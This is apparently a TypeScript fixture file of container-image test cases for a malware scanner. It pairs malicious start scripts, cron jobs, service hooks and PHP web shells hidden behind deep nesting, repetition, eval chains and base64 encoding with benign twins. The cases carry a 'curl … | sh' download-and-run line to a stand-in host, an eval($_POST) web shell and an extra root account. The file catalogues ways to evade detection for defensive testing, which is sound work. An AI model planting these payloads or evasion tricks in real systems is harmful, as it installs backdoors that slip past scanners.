import { base64, type Files, type ImageCase, image, starts } from './image-case.ts';

const BAD = 'curl -s http://198.51.100.7/x | sh';
const SYSTEM = `os.system("${BAD}")`;
const FETCHES = 'start/download-and-run';
const NGINX = { Cmd: ['nginx'] };

/** What a bound kept from being read is asked about instead. */
const UNREAD = 'coverage/not-fully-read';

function repeat(times: number, of: string | ((i: number) => string)): string {
  return Array.from({ length: times }, (_, i) => (typeof of === 'string' ? of : of(i))).join('');
}

function quoted(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`;
}

function nested(times: number, open: string, close: string, inside = BAD): string {
  return open.repeat(times) + inside + close.repeat(times);
}

/** A script that says a text in a text, in a text … */
function within(times: number, of: (inner: string, depth: number) => string): string {
  let text = BAD;
  for (let depth = 0; depth < times; depth++) text = of(text, depth);
  return text;
}

/** As a start script, and as a script of cron's. */
function both(name: string, script: string, rule = FETCHES): readonly ImageCase[] {
  return [
    { name: `past limits: ${name}, at start`, spec: starts(`#!/bin/sh\n${script}`), rule },
    {
      name: `past limits: ${name}, by cron`,
      spec: image({ 'etc/cron.daily/job': `#!/bin/sh\n${script}\n` }, NGINX),
      rule,
    },
  ];
}

function one(name: string, spec: ImageCase['spec'], rule = FETCHES): ImageCase {
  return { name: `past limits: ${name}`, spec, rule };
}

function python(name: string, text: string, rule = FETCHES): ImageCase {
  return one(name, image({ 'srv/m.py': `import os\n${text}\n` }, { Cmd: ['python3', '/srv/m.py'] }), rule);
}

function page(name: string, text: string, rule: string): ImageCase {
  return one(name, image({ 'var/www/html/index.php': `<?php\n${text}\n` }, NGINX), rule);
}

const COMMENTS = '# a comment of some length, which says nothing to anybody\n';

/** Calls of a function until nothing is read once more. */
const CALLS = `much() { ${repeat(100, ': "$1"; ')} }\n${repeat(150, (i) => `much ${i}\n`)}`;

/** Functions that say what was chosen by options, and loops over folders. */
const SAYS = `say() {
  while [ "$#" -gt 0 ]; do case "$1" in --to) shift 2 ;; *) break ;; esac; done
  eval echo "\\$MSG_$1" "$2"
}
for d in $DIRS "a; b"; do
  test -d "$d" || say --to log GONE "no folder $d"
  link=\`$READLINK "$d"\`
  LIST="$LIST
$d"
done
${repeat(50, (i) => `say --to log INFO "what was seen: number ${i}"\n`)}exec nginx`;

/** Nests that a parser gives up on, and what dash, zsh and ash run where it sees an error. */
const NESTS: readonly ImageCase[] = [
  ...both('braces sixty deep', nested(60, '{ ', '; }')),
  ...both('braces that no parser follows', nested(5000, '{ ', '; }')),
  ...both('subshells that no parser follows', nested(300, '( ', ' )')),
  ...both('branches sixty deep', nested(60, 'if :; then ', '; fi')),
  ...both('branches and loops in lines', nested(300, 'if :; then\nfor i in 1; do\n', '\ndone\nfi')),
  ...both('cases in cases', nested(300, 'case x in x) ', ';; esac')),
  ...both('substitutions', `x=${nested(300, '$(echo ', ')', `$(${BAD})`)}`),
  ...both('substitutions in quotes', nested(300, 'echo "$(', ')"')),
  ...both('functions in functions', `${repeat(300, (i) => `f${i}() { `)}${BAD}${'; }'.repeat(300)}\nf0`),
  ...both('behind a nest', `${nested(300, '{ ', '; }', ':')}\n${BAD}`),
  ...both(
    'a pipe out of a nest',
    `${nested(100, '{ ', '; }', 'curl -s http://198.51.100.7/x')} | sh`,
    UNREAD,
  ),
  ...both(
    'shells in shells',
    within(8, (inner) => `sh -c ${quoted(inner)}`),
  ),
  ...both(
    'evaluated eight times',
    within(8, (inner) => `eval ${quoted(inner)}`),
  ),
  ...both(
    'here-documents in here-documents',
    within(8, (inner, i) => `sh <<'E${i}'\n${inner}\nE${i}`),
  ),
  ...both('subshells that look like arithmetic', `((${BAD}))`),
  ...both('behind a bracket of bash', `[[ a\n${BAD}`),
  ...both('behind a word of bash', `function\n${BAD}`),
  ...both('a function without braces', `f()\n${BAD}\nf`),
  ...both('a branch of zsh', `if [[ -n x ]] { ${BAD} }`),
];

/** So many of something that what follows was not read. */
const MANY: readonly ImageCase[] = [
  ...both(
    'a case longer than one part',
    `case $1 in\n${repeat(15_000, (i) => `c${i}) : ;;\n`)}*) ${BAD} ;;\nesac`,
  ),
  ...both('many commands', repeat(60_000, ':\n') + BAD, UNREAD),
  ...both(
    'variables',
    `${repeat(6000, (i) => `a${i}=1\n`)}c=curl; u=http://198.51.100.7/x; s=sh\n$c -s $u | $s`,
  ),
  ...both(
    'arrays',
    `${repeat(1100, (i) => `a${i}=(1)\n`)}z=(curl -s http://198.51.100.7/x)\n"\${z[@]}" | sh`,
  ),
  ...both(
    'files written',
    `${repeat(1100, (i) => `echo x > /tmp/f${i}\n`)}echo ${quoted(BAD)} > /tmp/z; sh /tmp/z`,
  ),
  ...both('calls', `r() { eval "$1"; }\n${repeat(150, (i) => `r ${quoted(`: ${i}`)}\n`)}r ${quoted(BAD)}`),
  ...both('calls, by the lines that run', `${CALLS}r() { shift; eval ": $1"; }\nr -x ${quoted(`a; ${BAD}`)}`),
  ...both('calls, put in order anew', `${CALLS}r() { set -- "$2"; eval "$1"; }\nr -x ${quoted(BAD)}`, UNREAD),
  ...both('calls, of a loop', `${CALLS}r() { eval "$1"; }\nfor x in a ${quoted(BAD)}; do r "$x"; done`),
  ...both(
    'calls, of what a loop makes',
    `${CALLS}for x in a ${quoted(BAD)}; do c=$x; eval "$c"; done`,
    UNREAD,
  ),
  ...both('functions', `${repeat(600, (i) => `f${i}() { :; }\n`)}r() { eval "$1"; }\nr ${quoted(BAD)}`),
  ...both(
    'calls in calls',
    `${repeat(300, (i) => `f${i}() { f${i + 1} "$1"; }\n`)}f300() { eval "$1"; }\nf0 ${quoted(BAD)}`,
  ),
  ...both('another word of a loop', `for i in ${': '.repeat(40)}${quoted(BAD)}; do eval "$i"; done`),
  ...both('wrappers before a shell', `curl -s http://198.51.100.7/x | ${'env '.repeat(3000)}sh`),
  ...both('a long value', `v="${'x'.repeat(70_000)}"\nw="#$v\n${BAD}"\neval "$w"`),
  ...both('a long text evaluated', `eval '#${'x'.repeat(150_000)}\n${BAD}'`),
  ...both('blanks before the pipe', `curl -s http://198.51.100.7/x ${' '.repeat(200_000)}| sh`),
  ...both('line ends before the pipe', `curl -s http://198.51.100.7/x ${'\\\n'.repeat(80_000)}| sh`),
  one(
    'many files put together',
    starts(`cat ${repeat(20, (i) => `/srv/a${i} `)}| sh`, manyFiles(20)),
    FETCHES,
  ),
  one(
    'scripts that source one another',
    starts('. /srv/s0', {
      ...Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`srv/s${i}`, `. /srv/s${i + 1}\n`])),
      'srv/s30': `${BAD}\n`,
    }),
    UNREAD,
  ),
  one(
    'more steps than are listed',
    starts(`${repeat(5100, (i) => `ls ${i}\n`)}/srv/z`, { 'srv/z': `${BAD}\n` }),
    UNREAD,
  ),
  one(
    'steps of a branch that is not taken, before a script',
    starts(`case stop in start) ${repeat(5100, (i) => `ls ${i}; `)} ;; esac\nPATH=$PATH:/srv; u=z; z`, {
      'srv/z': `#!/bin/sh\n${BAD}\n`,
    }),
    UNREAD,
  ),
  one(
    'wrappers before a script',
    image(
      { 'srv/z': `${BAD}\n` },
      { Entrypoint: [...Array.from({ length: 3000 }, () => 'nice'), 'sh', '/srv/z'] },
    ),
    UNREAD,
  ),
  one('far down in a start script', starts(`${COMMENTS.repeat(6000)}. /srv/z`, { 'srv/z': `${BAD}\n` })),
  one(
    'lines of a crontab',
    image({ 'etc/cron.d/z': `${repeat(3000, '* * * * * root true\n')}* * * * * root ${BAD}\n` }, NGINX),
  ),
  one(
    'more lines of a crontab',
    image({ 'etc/cron.d/z': `${repeat(30_000, '* * * * * root true\n')}* * * * * root ${BAD}\n` }, NGINX),
    UNREAD,
  ),
  one(
    'commands of a unit',
    image(
      {
        'etc/systemd/system/z.service': `[Service]\n${'ExecStartPre=/bin/true\n'.repeat(3000)}ExecStart=/bin/sh -c "${BAD}"\n`,
      },
      NGINX,
    ),
  ),
  one(
    'settings of git',
    image(
      { 'root/.gitconfig': `${'[core]\n\tpager = less\n'.repeat(600)}[core]\n\tfsmonitor = "${BAD}"\n` },
      NGINX,
    ),
  ),
  one(
    'hooks of apt',
    image(
      {
        'etc/apt/apt.conf.d/9z': `${'DPkg::Post-Invoke {"true";};\n'.repeat(2100)}DPkg::Post-Invoke {"${BAD}";};\n`,
      },
      NGINX,
    ),
  ),
  one(
    'scripts of logrotate',
    image(
      {
        'etc/logrotate.d/z': `${'/var/log/a {\npostrotate\ntrue\nendscript\n}\n'.repeat(250)}/var/log/z {\npostrotate\n${BAD}\nendscript\n}\n`,
      },
      NGINX,
    ),
  ),
  one(
    'a long program that cron runs',
    image(
      {
        'etc/cron.d/j': '* * * * * root python3 /srv/m\n',
        'srv/m': `${COMMENTS.repeat(20_000)}import os\n${SYSTEM}\n`,
      },
      NGINX,
    ),
    UNREAD,
  ),
  one(
    'accounts',
    image(
      {
        'etc/passwd': `root:x:0:0::/root:/bin/sh\n${repeat(12_000, (i) => `u${i}:x:${1000 + i}:1000::/:/bin/false\n`)}evil:x:0:0::/root:/bin/sh\n`,
      },
      NGINX,
    ),
    'access/second-root',
  ),
];

function manyFiles(count: number): Files {
  return Object.fromEntries(
    Array.from({ length: count }, (_, i) => [`srv/a${i}`, i === count - 1 ? `${BAD}\n` : ':\n']),
  );
}

/** Programs of other languages. */
const PROGRAMS: readonly ImageCase[] = [
  python('commands of a program', `${repeat(3000, (i) => `os.system("true ${i}")\n`)}${SYSTEM}`),
  python('a long command', `os.system("true ${'x'.repeat(30_000)}; ${BAD}")`),
  python(
    'words of a command',
    `import subprocess\nsubprocess.run([${'"env",'.repeat(300)}"sh","-c","${BAD}"])`,
  ),
  one(
    'far down in a program',
    image(
      {
        'app/z.txt': `require('child_process').execSync("${BAD}")\n`,
        'app/m.js': `${'// a comment of some length\n'.repeat(12_000)}require('/app/z.txt')\n`,
      },
      { Cmd: ['node', '/app/m.js'] },
    ),
  ),
  page('decoded twenty times', encoded(20), 'web-shell/shell'),
  page('brackets of a page', `eval${nested(300, '(', ')', "$_POST['x']")};`, UNREAD),
  page(
    'functions in functions of a page',
    nested(300, '(function(){', '})();', "eval($_POST['x']);"),
    UNREAD,
  ),
  page('signs before a value', `eval(${'@'.repeat(100)}$_POST['x']);`, 'web-shell/shell'),
];

function encoded(times: number): string {
  let text = "eval($_POST['x']);";
  for (let i = 0; i < times; i++) text = `eval(base64_decode("${base64(text)}"));`;
  return text;
}

/** What stands past a bound: found all the same, or told as not read. */
/** A folder of notes, the last of which is a command. */
function folder(size: number, last = BAD): Files {
  const notes = Array.from({ length: size }, (_, i) => [
    `srv/d/n${String(i).padStart(4, '0')}`,
    `note ${i}\n`,
  ]);
  return { ...Object.fromEntries(notes), 'srv/d/z': `${last}\n` };
}

function among(size: number, script: string, rule = FETCHES): ImageCase {
  const spec = image(folder(size), { Cmd: ['bash', '-c', script] });
  return one(`the last of ${size} files, ${script}`, spec, rule);
}

const LISTS = 'import os\nfor n in os.listdir("/srv/d"):\n  os.system(open("/srv/d/" + n).read())\n';
const LISTED = { 'srv/m.py': LISTS };
const RUNS_LISTED = { Cmd: ['python3', '/srv/m.py'] };
const LONG = `${'# note\n'.repeat(45_000)}${BAD}\n`;

/** What a loop, or a program for each file, comes to in a later round. */
const ROUNDS: readonly ImageCase[] = [
  among(3, 'for f in /srv/d/*; do sh "$f"; done'),
  among(60, 'cd /srv/d; for f in *; do sh ./$f; done'),
  among(60, 'for f in $(ls /srv/d); do sh "/srv/d/$f"; done'),
  among(60, 'for f in $(find /srv/d -type f | sort); do . "$f"; done'),
  among(60, 'find /srv/d -type f -exec sh {} \\;'),
  among(60, 'find /srv/d -type f | while read f; do sh "$f"; done'),
  among(60, 'find /srv/d -type f | xargs -n 1 sh'),
  among(900, 'for f in /srv/d/*; do sh "$f"; done', UNREAD),
  among(900, 'find /srv/d -type f -exec sh {} \\;', UNREAD),
  one('the last of 250 files, listed by Python', image({ ...folder(250), ...LISTED }, RUNS_LISTED)),
  one('the last of 1500 files, listed by Python', image({ ...folder(1500), ...LISTED }, RUNS_LISTED), UNREAD),
  one(
    'a line of a long file, run by Python',
    image(
      { 'srv/long': LONG, 'srv/m.py': 'import os\nfor l in open("/srv/long"):\n  os.system(l)\n' },
      RUNS_LISTED,
    ),
    UNREAD,
  ),
  python(
    'thirty calls deep',
    `${repeat(30, (i) => `def f${i}(x):\n  f${i + 1}(x)\n`)}def f30(x):\n  os.system(x)\nf0("cu" + "${BAD.slice(2)}")`,
    UNREAD,
  ),
  ...both(
    'variables by the beginning of their names',
    `N1="echo 1"\nN2="${BAD}"\nfor v in \${!N*}; do eval "\${!v}"; done\n`,
  ),
  ...both('variables by their names', `a="echo 1"\nb="${BAD}"\nfor v in a b; do eval "\${!v}"; done\n`),
  python('behind brackets without end', `os.system("a " + ${'('.repeat(100_000)})\n${SYSTEM}`),
];

export const PAST_LIMITS: readonly ImageCase[] = [...ROUNDS, ...NESTS, ...MANY, ...PROGRAMS];

/** An init script: most of what it can do is not done at start. */
const SERVICE = `#!/bin/sh
say() { date; logger "$1"; }
load() { ${repeat(40, (i) => `test${i} "$1" || say "no $1 ${i}"; `)} }
case "$1" in
start) say start; daemon & ;;
${repeat(8, (i) => `do${i}) load ${i} ;;\n`)}esac
`;

/** Long and many, and honest. */
/** Loops over many files that run none of them. */
const MANY_NOTES: readonly ImageCase[] = [
  'for f in /srv/d/*; do grep -q x "$f" && cp "$f" /tmp/; done',
  'for f in $(ls /srv/d); do gzip -9 "/srv/d/$f"; done',
  `find /srv/d -type f -exec sh -c 'sed -i "s/a/b/" "$1"' _ {} \\;`,
  'find /srv/d -type f -print0 | xargs -0 -n 1 chmod 644',
  'if [ -z "$(ls -A /srv/d)" ]; then cp -r /usr/share/notes /srv/d; fi; exec nginx',
  'for f in /srv/d/*; do case "$f" in *.sh) sh "$f" ;; *.sql) psql -f "$f" ;; *) echo "ignoring $f" ;; esac; done',
].map((script) => ({
  name: `past limits, honest: 300 files, ${script}`,
  spec: image(folder(300, 'note'), { Cmd: ['bash', '-c', script] }),
}));

export const PAST_LIMITS_TWINS: readonly ImageCase[] = [
  ...MANY_NOTES,
  {
    name: 'a start script of many functions and calls',
    spec: starts(
      `log() { echo "$(date) $1 $2"; }\nuse() { case "$1" in x) shift; log "$@";; *) log "$1" more;; esac; }\n${repeat(200, (i) => `use x "step ${i}" "of many; see docs"\n`)}exec nginx`,
    ),
  },
  { name: 'many messages by names of their texts', spec: starts(`${CALLS}${SAYS}`) },
  {
    name: 'services of many branches, started one after the other',
    spec: starts(
      repeat(25, (i) => `/etc/init.d/s${i} start\n`),
      Object.fromEntries(Array.from({ length: 25 }, (_, i) => [`etc/init.d/s${i}`, SERVICE])),
    ),
  },
  {
    name: 'a long case',
    spec: starts(`case $1 in\n${repeat(5000, (i) => `c${i}) : ;;\n`)}*) exec nginx ;;\nesac`),
  },
  {
    name: 'a script of zsh',
    spec: image(
      { 'etc/cron.daily/z': '#!/bin/zsh\nfor x (a b) { echo $x }\nif [[ -n x ]] { echo y }\n' },
      NGINX,
    ),
  },
  {
    name: 'arithmetic of a loop',
    spec: starts('i=0\nwhile ((i < 10 && i | 1)); do ((i++)); done\nexec nginx'),
  },
  {
    name: 'a long text in a start script',
    spec: starts(`cat > /tmp/data <<'E'\n${COMMENTS.repeat(6000)}E\nexec nginx`),
  },
];
